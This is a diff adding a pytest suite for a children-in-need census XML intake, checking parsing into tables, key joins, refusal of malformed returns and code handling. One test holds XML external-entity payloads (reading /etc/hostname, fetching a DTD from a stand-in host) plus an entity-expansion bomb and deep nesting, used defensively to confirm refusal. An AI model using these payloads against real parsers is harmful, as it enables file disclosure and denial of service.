@@ -1,0 +1,144 @@
+"""The children in need census: read safely, all or nothing."""
+
+import intake_files as files
+import pytest
+from intake_files import errors, queries, upn
+
+CHILD = """
+  <Child>
+   <ChildIdentifiers>
+    <LAchildID>{child}</LAchildID><UPN>{upn}</UPN>
+    <PersonBirthDate>2012-05-14</PersonBirthDate><Sex>F</Sex>
+   </ChildIdentifiers>
+   <ChildCharacteristics><Ethnicity>WBRI</Ethnicity></ChildCharacteristics>
+   <CINdetails>
+    <CINreferralDate>2025-06-02</CINreferralDate><ReferralSource>2A</ReferralSource>
+    <PrimaryNeedCode>N1</PrimaryNeedCode>
+    <Assessments>
+     <AssessmentActualStartDate>2025-06-03</AssessmentActualStartDate>
+     <AssessmentAuthorisationDate>2025-07-01</AssessmentAuthorisationDate>
+     <FactorsIdentifiedAtAssessment>
+      <AssessmentFactors>13A</AssessmentFactors><AssessmentFactors>24A</AssessmentFactors>
+     </FactorsIdentifiedAtAssessment>
+    </Assessments>
+    <ReferralNFA>false</ReferralNFA>
+    <PreProceedings><Anything>new</Anything></PreProceedings>
+   </CINdetails>
+  </Child>"""
+HEADER = """<Message>
+ <Header>
+  <CollectionDetails>
+   <Collection>{collection}</Collection><Year>{year}</Year><ReferenceDate>{day}</ReferenceDate>
+  </CollectionDetails>
+  <Source><SourceLevel>L</SourceLevel><LEA>{lea}</LEA></Source>
+ </Header>
+ <Children>"""
+
+
+def census(children=1, *, collection="CIN", year=2026, day="2026-03-31", lea="301"):
+    """A return, one child after another."""
+    head = HEADER.format(collection=collection, year=year, day=day, lea=lea)
+    body = "".join(CHILD.format(child=f"C{i}", upn=upn(i)) for i in range(1, children + 1))
+    return f"{head}{body}\n </Children>\n</Message>\n"
+
+
+@pytest.fixture
+def monitor(tmp_path):
+    return files.monitor(tmp_path / "monitor")
+
+
+def sent(monitor, text, sender="301"):
+    monitor.drop("census.xml", text, sender)
+    [outcome] = monitor.take_in().outcomes
+    return outcome
+
+
+def test_a_return_becomes_children_referrals_assessments_and_factors(monitor):
+    outcome = sent(monitor, census(3))
+    assert outcome.problems == []
+    assert (outcome.records, outcome.accepted) == (15, 15)
+    assert str(outcome.period.end) == "2026-03-31"
+    for table, count in (("children", 3), ("referrals", 3), ("assessments", 3), ("factors", 6)):
+        assert len(monitor.raw(f"cin_{table}")) == count
+    assert monitor.raw("cin_factors", "distinct factor_code") == [("13A",), ("24A",)]
+
+
+def test_rows_of_a_return_join_by_their_keys(monitor):
+    sent(monitor, census(1))
+    [(referral, person)] = monitor.raw("cin_referrals", "referral_key, person_key")
+    [(assessment, of, by)] = monitor.raw(
+        "cin_assessments", "assessment_key, referral_key, person_key"
+    )
+    assert (of, by) == (referral, person)
+    assert set(monitor.raw("cin_factors", "assessment_key")) == {(assessment,)}
+
+
+def test_a_child_has_one_key_in_the_census_and_in_monthly_extracts(monitor):
+    sent(monitor, census(1))
+    text = files.PERSONS + "C1,F,WBRI,2012-05-14\n"
+    monitor.send(files.ssd(ssd_person=text))
+    assert monitor.raw("ssd_persons", "person_key") == monitor.raw("cin_children", "person_key")
+
+
+@pytest.mark.parametrize(
+    ("text", "error"),
+    [
+        (census(lea="302"), ("WRONG_SENDER", 2, "LEA")),
+        (census(lea="975"), ("WRONG_SENDER", 2, "LEA")),
+        (census(day="2026-07-21"), ("YEAR", 2, "ReferenceDate")),
+        (census(year=2025), ("YEAR", 2, "ReferenceDate")),
+        (census(year="soon"), ("YEAR", 2, "ReferenceDate")),
+        (census(collection="SSDA903"), ("XML_STRUCTURE", 2, None)),
+        ("<Message><Children/></Message>", ("XML_STRUCTURE", 1, None)),
+        (census(2)[: len(census(2)) // 2], ("XML_NOT_WELL_FORMED", 26, None)),
+        (census(1).replace("</Child>", "</Chid>"), ("XML_NOT_WELL_FORMED", 29, None)),
+    ],
+)
+def test_a_wrong_or_broken_return_is_refused_with_its_line(monitor, text, error):
+    outcome = sent(monitor, text)
+    assert outcome.is_refused
+    rule, line, column = errors(outcome)[0]
+    assert (rule, column) == (error[0], error[2])
+    assert line is not None
+    assert abs(line - error[1]) <= 2
+    assert monitor.raw("cin_children") == []
+
+
+@pytest.mark.timeout(20)
+@pytest.mark.parametrize(
+    "prolog",
+    [
+        '<!DOCTYPE Message [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
+        '<!DOCTYPE Message SYSTEM "http://203.0.113.1/evil.dtd">',
+        '<!DOCTYPE Message [<!ENTITY % p SYSTEM "http://203.0.113.1/x"> %p;]>',
+        '<!DOCTYPE Message [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>',
+    ],
+)
+def test_a_document_type_is_refused_before_anything_is_expanded(monitor, prolog):
+    text = prolog + census(1).replace("WBRI", "&x;")
+    assert errors(sent(monitor, text))[0][0] in ("XML_DOCTYPE", "XML_NOT_WELL_FORMED")
+
+
+def test_endless_nesting_is_refused(monitor):
+    text = census(1).replace("WBRI", "<a>" * 10_000)
+    assert errors(sent(monitor, text))[0][0] == "XML_NOT_WELL_FORMED"
+
+
+def test_a_bad_value_keeps_out_its_row_alone(monitor):
+    text = census(60).replace("<ReferralSource>2A", "<ReferralSource>2Z", 1)
+    outcome = sent(monitor, text)
+    assert [(rule, column) for rule, _, column in errors(outcome)] == [("CODE_UNKNOWN", "source")]
+    assert (len(monitor.raw("cin_referrals")), len(monitor.raw("cin_children"))) == (59, 60)
+
+
+@pytest.mark.parametrize(("written", "meant"), [("GenderCurrent>1", "M"), ("Sex>2", "F")])
+def test_older_codes_of_sex_are_understood(monitor, written, meant):
+    name = written.partition(">")[0]
+    sent(monitor, census(1).replace("<Sex>F</Sex>", f"<{written}</{name}>"))
+    assert monitor.raw("cin_children", "sex") == [(meant,)]
+
+
+def test_a_case_closed_before_the_year_is_a_query(monitor):
+    closed = "<CINclosureDate>2019-01-01</CINclosureDate><ReasonForClosure>RC7</ReasonForClosure>"
+    text = census(1).replace("<Assessments>", f"{closed}<Assessments>")
+    assert [query.rule for query in queries(sent(monitor, text))] == ["OUTSIDE_PERIOD"]
